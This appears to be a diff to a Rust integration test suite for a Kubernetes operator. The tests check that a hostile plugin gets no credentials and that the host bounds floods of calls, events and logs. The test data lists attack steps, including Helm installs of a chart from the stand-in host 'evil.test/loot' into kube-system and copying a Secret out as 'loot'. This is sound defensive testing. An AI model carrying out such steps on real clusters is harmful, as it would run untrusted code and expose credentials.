@@ -4,6 +4,7 @@
 //! controllers against kube-sim, omni-sim and a workload kube-sim, beside the built-in export plugin whose
 //! credentials are the prize.
 
+use omni_operator::controllers::metrics::Count;
 use std::sync::atomic::Ordering;
 use std::time::{Duration, Instant};
 
@@ -135,8 +136,9 @@ async fn a_plugin_with_every_grant_obtains_no_credential_and_every_denial_is_rep
         {"do": "claim", "name": "omni-service-account"},
         // 16-17: Helm through a kubeconfig the object does not name: a chart of its choosing into kube-system, and
         // a look at what runs there.
-        {"do": "helmEnsure", "kubeconfig": {"name": "edge-kubeconfig", "key": "kubeconfig"}, "chart": "oci://evil.test/loot"},
-        {"do": "helmStatus", "kubeconfig": {"name": "edge-kubeconfig", "key": "kubeconfig"}, "release": "cilium"},
+        {"do": "helmInstall", "kubeconfig": {"name": "edge-kubeconfig", "key": "kubeconfig"}, "chart": "oci://evil.test/loot"},
+        {"do": "helmRead", "kubeconfig": {"name": "edge-kubeconfig", "key": "kubeconfig"}, "release": "cilium",
+            "releaseNamespace": "kube-system"},
         // 18-19: a Helm step through a kubeconfig the object does not name; values from a Secret it does not name
         // (through a kubeconfig it does).
         {"do": "helmStart", "kubeconfig": {"name": "edge-kubeconfig", "key": "kubeconfig"}},
@@ -241,7 +243,7 @@ async fn a_plugin_with_every_grant_obtains_no_credential_and_every_denial_is_rep
         "no denial was logged"
     );
     // 15 refusals in the first call, 3 in the second.
-    assert!(env.stats.denials.load(Ordering::Relaxed) >= 18);
+    assert!(env.stats.total(Count::Denials) >= 18);
 
     // A reconcile without denials clears the report.
     env.apply(&release("h", "app-config", json!([]))).await;
@@ -327,16 +329,14 @@ async fn a_kubeconfig_named_only_by_the_plugins_own_status_reaches_no_cluster() 
     let uid = obj["metadata"]["uid"].as_str().expect("uid").to_string();
     let edge = json!({"name": "edge-kubeconfig", "key": "kubeconfig"});
     let attacks = json!([
-        // 0-6: reads, installs and writes through the status-named kubeconfig.
+        // 0-4: reads, installs and writes through the status-named kubeconfig.
         {"do": "probe", "name": "edge-kubeconfig", "key": "kubeconfig"},
         {"do": "copy", "kubeconfig": edge, "source": "app-config", "targetNamespace": "kube-system",
             "targetName": "loot", "ownerKey": "omni.texashpc.com/owner", "ownerValue": uid},
-        {"do": "helmEnsure", "kubeconfig": edge, "chart": "oci://evil.test/loot"},
         {"do": "helmInstall", "kubeconfig": edge, "chart": "oci://evil.test/loot"},
         {"do": "helmRead", "kubeconfig": edge, "release": "cilium", "releaseNamespace": "kube-system"},
         {"do": "helmDrift", "kubeconfig": edge, "release": "cilium", "releaseNamespace": "kube-system"},
-        {"do": "helmStatus", "kubeconfig": edge, "release": "cilium"},
-        // 7-8: cleaning up what the object made stays possible through it (owner-checked by the host).
+        // 5-6: cleaning up what the object made stays possible through it (owner-checked by the host).
         {"do": "workloadDelete", "kubeconfig": edge, "targetNamespace": "apps", "targetName": "mine",
             "ownerKey": "omni.texashpc.com/owner", "ownerValue": uid},
         {"do": "helmUninstall", "kubeconfig": edge, "release": "mine", "releaseNamespace": "apps"},
@@ -344,11 +344,11 @@ async fn a_kubeconfig_named_only_by_the_plugins_own_status_reaches_no_cluster() 
     env.apply(&release("s", "app-config", attacks)).await;
     let obj = env
         .wait("OmniHelmRelease", "s", "the attacks' report", |o| {
-            results(o).len() == 9
+            results(o).len() == 7
         })
         .await;
     let r = results(&obj);
-    for (i, result) in r.iter().enumerate().take(7) {
+    for (i, result) in r.iter().enumerate().take(5) {
         assert!(denied(result), "attack {i} was not denied: {result}");
         assert!(
             result["error"]
@@ -358,7 +358,7 @@ async fn a_kubeconfig_named_only_by_the_plugins_own_status_reaches_no_cluster() 
             "attack {i}: {result}"
         );
     }
-    for (i, result) in r.iter().enumerate().skip(7) {
+    for (i, result) in r.iter().enumerate().skip(5) {
         assert!(
             !denied(result),
             "cleanup {i} through the status-named kubeconfig was denied: {result}"
@@ -466,7 +466,7 @@ async fn floods_of_calls_events_requeues_and_log_bytes_are_bounded_by_the_host()
         {"do": "logHuge", "bytes": 8 << 20, "times": 4},
     ]);
     let started = Instant::now();
-    let calls_before = env.stats.calls.load(Ordering::Relaxed);
+    let calls_before = env.stats.total(Count::PluginCalls);
     env.apply(&release("flood", "none", flood)).await;
     env.wait("OmniHelmRelease", "flood", "reported", |o| {
         results(o).len() == 3
@@ -474,13 +474,13 @@ async fn floods_of_calls_events_requeues_and_log_bytes_are_bounded_by_the_host()
     .await;
     tokio::time::sleep(Duration::from_secs(4)).await;
     let seconds = started.elapsed().as_secs_f64();
-    let calls = env.stats.calls.load(Ordering::Relaxed) - calls_before;
+    let calls = env.stats.total(Count::PluginCalls) - calls_before;
     // The requeue floor is 1 s; allow the first call, the status write's own trigger and slack for a slow machine.
     assert!(
         (calls as f64) <= seconds + 4.0,
         "{calls} reconciles in {seconds:.1} s despite the 1 s requeue floor"
     );
-    assert!(env.stats.requeues_raised.load(Ordering::Relaxed) >= 1);
+    assert!(env.stats.total(Count::RequeuesRaised) >= 1);
     let spam = env
         .kube
         .list("events.k8s.io/v1", "Event", Some(NS))
@@ -491,7 +491,7 @@ async fn floods_of_calls_events_requeues_and_log_bytes_are_bounded_by_the_host()
         (1..=25).contains(&spam),
         "{spam} Events recorded for one object; the spam filter allows a burst of 25"
     );
-    assert!(env.stats.events_dropped.load(Ordering::Relaxed) >= 35);
+    assert!(env.stats.total(Count::EventsDropped) >= 35);
     // Log lines keep at most 4 KiB of message and 1 KiB per field.
     let logged = String::from_utf8_lossy(&support::logs().lock().unwrap()).into_owned();
     assert!(
